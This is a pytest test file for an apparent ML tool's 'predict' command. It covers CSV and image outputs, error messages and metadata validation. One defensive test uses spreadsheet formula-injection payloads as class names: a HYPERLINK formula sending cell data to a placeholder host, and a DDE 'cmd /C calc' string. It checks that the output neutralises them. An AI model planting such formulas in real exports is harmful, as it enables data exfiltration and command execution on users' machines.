"""``forgeflow predict`` (python/forgeflow/cli/predict.py): one output row per CSV row or image
file, with the class names stored at fit time, agreeing with the Python API's predictions."""
import shutil

import numpy as np
import pytest

import forgeflow as ff

from ._helpers import cli, read_csv, run_main


def test_predict_csv_classifier(cli_data, iris_model, tmp_path):
    out = tmp_path / "preds.csv"
    r = cli("predict", iris_model, "--csv", cli_data["iris_new"], "--output", out)  # no label
    assert r.returncode == 0, r.stderr
    assert "Wrote 30 predictions" in r.stdout
    rows = read_csv(out)
    assert rows[0] == ["class", "probability"] and len(rows) == 31
    truth = [row[-1] for row in read_csv(cli_data["iris_test"])[1:]]
    classes = [row[0] for row in rows[1:]]
    assert set(classes) <= {"setosa", "versicolor", "virginica"}
    assert np.mean([c == t for c, t in zip(classes, truth)]) >= 0.8  # chance: 1/3
    # the same as the Python API on the same rows
    model = ff.models.load_model(str(iris_model))
    x = np.loadtxt(cli_data["iris_new"], delimiter=",", skiprows=1, dtype=np.float32)
    probs = model.predict(x, verbose=0)
    names = model._user_data["forgeflow_cli"]["class_names"]
    assert classes == [names[k] for k in probs.argmax(axis=1)]
    np.testing.assert_allclose([float(row[1]) for row in rows[1:]], probs.max(axis=1),
                               rtol=1e-5)


def test_predict_csv_with_label_column_to_stdout(cli_data, iris_model, capsys):
    code, out, err = run_main(capsys, "predict", iris_model, "--csv", cli_data["iris_test"])
    assert code == 0, err
    lines = out.splitlines()
    assert lines[0] == "class,probability" and len(lines) == 31  # only the CSV: no bar
    assert all(0 < float(line.split(",")[1]) <= 1 for line in lines[1:])


def test_predict_csv_regression(cli_data, diabetes_model, tmp_path, capsys):
    out = tmp_path / "p.csv"
    code, _, err = run_main(capsys, "predict", diabetes_model, "--csv",
                            cli_data["diabetes_test"], "--output", out, "--batch-size", "7")
    assert code == 0, err
    rows = read_csv(out)
    assert rows[0] == ["prediction"] and len(rows) == 83
    test = np.loadtxt(cli_data["diabetes_test"], delimiter=",", skiprows=1, dtype=np.float32)
    expected = ff.models.load_model(str(diabetes_model)).predict(test[:, :-1], verbose=0)[:, 0]
    np.testing.assert_allclose([float(r[0]) for r in rows[1:]], expected, rtol=1e-5)


def test_predict_images_recursive(cli_data, image_model, tmp_path):
    folder = tmp_path / "unsorted"
    shutil.copytree(cli_data["images_test"] / "bag", folder / "a")
    shutil.copytree(cli_data["images_test"] / "trouser", folder / "b" / "deeper")
    loose = next((cli_data["images_test"] / "sneaker").iterdir())
    shutil.copy(loose, folder / "loose.png")
    out = tmp_path / "p.csv"
    r = cli("predict", image_model, "--images", folder, "--output", out)
    assert r.returncode == 0, r.stderr
    rows = read_csv(out)
    assert rows[0] == ["file", "class", "probability"]
    files = [row[0] for row in rows[1:]]
    assert len(files) == 41 and "loose.png" in files
    assert sum(f.startswith("a/") for f in files) == 20
    assert sum(f.startswith("b/deeper/") for f in files) == 20
    by_folder = {}
    for f, cls, p in rows[1:]:
        assert 0 < float(p) <= 1
        by_folder.setdefault(f.split("/")[0], []).append(cls)
    assert np.mean([c == "bag" for c in by_folder["a"]]) >= 0.7
    assert np.mean([c == "trouser" for c in by_folder["b"]]) >= 0.7


@pytest.mark.parametrize("case", ["not_a_model", "truncated", "missing_model", "missing_csv",
                                  "missing_column", "unknown_column", "empty_folder",
                                  "images_for_csv_model", "csv_for_image_model",
                                  "unknown_category"])
def test_predict_errors_are_one_line(cli_data, iris_model, image_model, tmp_path, capsys, case):
    model, source = iris_model, ["--csv", cli_data["iris_new"]]
    if case == "not_a_model":
        model = tmp_path / "model.ff"
        model.write_text("sepal,petal\n1,2\n" * 10)
        expected = "is not a forgeflow file"
    elif case == "truncated":
        model = tmp_path / "model.ff"
        model.write_bytes(iris_model.read_bytes()[:-100])
        expected = "is truncated"
    elif case == "missing_model":
        model = tmp_path / "nope.ff"
        expected = "model file"
    elif case == "missing_csv":
        source = ["--csv", tmp_path / "nope.csv"]
        expected = "does not exist"
    elif case == "missing_column":
        path = tmp_path / "x.csv"
        rows = read_csv(cli_data["iris_new"])
        path.write_text("\n".join(",".join(r[1:]) for r in rows) + "\n")
        source, expected = ["--csv", path], "lacks the column 'sepal length (cm)'"
    elif case == "unknown_column":
        path = tmp_path / "x.csv"
        rows = read_csv(cli_data["iris_new"])
        path.write_text("\n".join(",".join(r + ["1" if i else "extra"]) for i, r in
                                  enumerate(rows)) + "\n")
        source, expected = ["--csv", path], "has a column 'extra' that the schema does not know"
    elif case == "empty_folder":
        (tmp_path / "empty" / "sub").mkdir(parents=True)
        model, source, expected = image_model, ["--images", tmp_path / "empty"], "No images found"
    elif case == "images_for_csv_model":
        source, expected = ["--images", cli_data["images_test"]], "not trained on images"
    elif case == "csv_for_image_model":
        model, expected = image_model, "not trained on a CSV file"
    elif case == "unknown_category":
        path = tmp_path / "wine.csv"
        rows = read_csv(cli_data["wine"])
        path.write_text("\n".join(",".join(r) for r in rows[:5] + [rows[5][:-1] + ["9"]]) + "\n")
        fit = run_main(capsys, "fit", "--csv", cli_data["wine"], "--label", "target", "--model",
                       "linear", "--epochs", "1", "--verbose", "0", "--out", tmp_path / "w.ff")
        assert fit[0] == 0, fit[2]
        # the label column is read (and checked) when present: 9 is not one of its classes
        model, source, expected = tmp_path / "w.ff", ["--csv", path], 'unknown label class "9"'
    code, out, err = run_main(capsys, "predict", model, *source)
    assert code == 1, (out, err)
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("forgeflow: error: "), err
    assert expected in lines[0], lines[0]


def test_predict_error_from_the_console(iris_model, tmp_path):
    bad = tmp_path / "bad.ff"
    bad.write_bytes(b"\0" * 4096)
    r = cli("predict", bad, "--csv", tmp_path / "x.csv")
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert r.stderr.startswith("forgeflow: error: cannot load the model:")
    r = cli("predict", iris_model, "--csv", tmp_path / "x.csv", "--output", tmp_path / "no" / "p")
    assert r.returncode == 1 and "does not exist" in r.stderr


def test_predict_with_a_model_trained_in_python(cli_data, tmp_path, capsys):
    """A model fit on ff.data.csv_dataset and saved from Python (no forgeflow fit metadata):
    the CSV schema it keeps and its loss are enough."""
    ff.utils.set_random_seed(4)
    train = ff.data.csv_dataset(str(cli_data["iris_train"]), label="species", batch_size=16,
                                seed=1)
    model = ff.Sequential([ff.layers.Dense(16, activation="relu",
                                           input_shape=(train.schema.num_features,)),
                           ff.layers.Dense(3, activation="softmax")])
    model.compile(ff.optimizers.Adam(0.02), "sparse_categorical_crossentropy",
                  metrics=["accuracy"])
    model.fit(train, epochs=30, verbose=0)
    model.save(str(tmp_path / "py.ff"))
    code, out, err = run_main(capsys, "predict", tmp_path / "py.ff", "--csv",
                              cli_data["iris_new"])
    assert code == 0, err
    rows = [line.split(",") for line in out.splitlines()]
    assert rows[0] == ["class", "probability"] and len(rows) == 31
    truth = [row[-1] for row in read_csv(cli_data["iris_test"])[1:]]
    assert np.mean([r[0] == t for r, t in zip(rows[1:], truth)]) >= 0.8


@pytest.mark.parametrize("case", ["huge_image_size", "image_size_not_the_input",
                                  "vocabulary_string", "class_names_string"])
def test_predict_refuses_a_bad_user_section_at_load(cli_data, iris_model, image_model, tmp_path,
                                                    capsys, case):
    """What fit stored is checked when the model loads: never a 120 GB image allocation, a
    vocabulary iterated per character or a cast error in the middle of predict."""
    source = ["--csv", cli_data["iris_new"]]
    if case in ("huge_image_size", "image_size_not_the_input"):
        model = ff.models.load_model(str(image_model))
        size = [100000, 100000] if case == "huge_image_size" else [32, 32]
        model._user_data["forgeflow_cli"]["image_size"] = size
        source = ["--images", cli_data["images_test"]]
        expected = ("user data.forgeflow_cli.image_size[0]: expected an integer from 1 to 8192, "
                    "found an integer 100000" if case == "huge_image_size" else
                    "user data.forgeflow_cli.image_size: 32x32 grayscale images are (32, 32, 1), "
                    "but the model's input is [(28, 28, 1)]")
    elif case == "vocabulary_string":
        model = ff.models.load_model(str(iris_model))
        model._data_schema["label_vocabulary"] = "setosa"
        expected = ("user data.data_schema.label_vocabulary: expected a list of strings or null, "
                    "found a string 'setosa'")
    else:
        model = ff.models.load_model(str(iris_model))
        model._user_data["forgeflow_cli"]["class_names"] = "abc"
        expected = ("user data.forgeflow_cli.class_names: expected a list of strings or null, "
                    "found a string 'abc'")
    model.save(tmp_path / "bad.ff")
    code, out, err = run_main(capsys, "predict", tmp_path / "bad.ff", *source)
    assert code == 1 and out == ""
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("forgeflow: error: cannot load the model: "), err
    assert expected in lines[0], lines[0]


def test_predict_defuses_class_names_a_spreadsheet_would_run(cli_data, iris_model, tmp_path,
                                                             capsys):
    model = ff.models.load_model(str(iris_model))
    names = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2"]
    model._user_data["forgeflow_cli"]["class_names"] = names
    model.save(tmp_path / "m.ff")
    out = tmp_path / "p.csv"
    code, _, err = run_main(capsys, "predict", tmp_path / "m.ff", "--csv", cli_data["iris_new"],
                            "--output", out)
    assert code == 0, err
    classes = {row[0] for row in read_csv(out)[1:]}
    assert len(classes) >= 2 and classes <= {"'" + names[0], "'" + names[1], "-2"}


def test_text_cells_that_look_like_formulas_get_a_quote():
    from forgeflow.cli.predict import _text
    for cell in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-", "+", "=", "-1-1", "1e5=",
                 "--5"):
        assert _text(cell) == ("'" + cell if cell[0] in "=+-@\t\r" else cell), cell
    for cell in ("-2", "+7", "-1.5e3", ".5", "-.5", "3.", "cat", "", "a=b", " =x", "'=x"):
        assert _text(cell) == cell, cell
